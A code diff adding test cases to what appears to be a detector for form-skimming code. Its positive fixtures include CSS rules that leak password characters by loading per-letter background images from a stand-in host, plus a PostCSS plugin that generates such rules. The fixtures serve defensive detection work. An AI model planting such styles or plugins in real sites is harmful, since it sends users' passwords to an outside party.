@@ -158,8 +158,31 @@ examine(skimsForms, {
       },
       weight: 'context',
     },
+    {
+      when: 'styles ask somebody for another picture with each letter',
+      files: {
+        'theme.css': `input[type="password"][value$="a"] { background-image: url("//px.specimen.invalid/a"); }\ninput[type="password"][value$="b"] { background-image: url("//px.specimen.invalid/b"); }`,
+      },
+      weight: 'strong',
+      says: ['px.specimen.invalid'],
+    },
+    {
+      when: 'a plug-in makes such styles',
+      files: {
+        'package.json': { name: 'postcss-forms', version: '1.0.0', main: 'index.js' },
+        'index.js': `const origin = 'https://px.specimen.invalid'; module.exports = () => ({ postcssPlugin: 'postcss-forms', Once(root, { postcss }) { for (const c of 'abc') root.append(new postcss.Rule({ selector: \`input[value$="\${c}"]\` }).append({ prop: 'background', value: \`url("\${origin}/\${c}")\` })); } });`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
+    {
+      when: 'styles show a picture of their own for what is chosen',
+      files: {
+        'theme.css': `@import url("https://fonts.specimen.invalid/a.css");\n${'.a { color: red }\n'.repeat(200)}option[value^="flag-"] { background-image: url("./flags/a.svg"); }`,
+      },
+    },
+
     {
       when: 'such a text is told by its user where to send',
       files: {
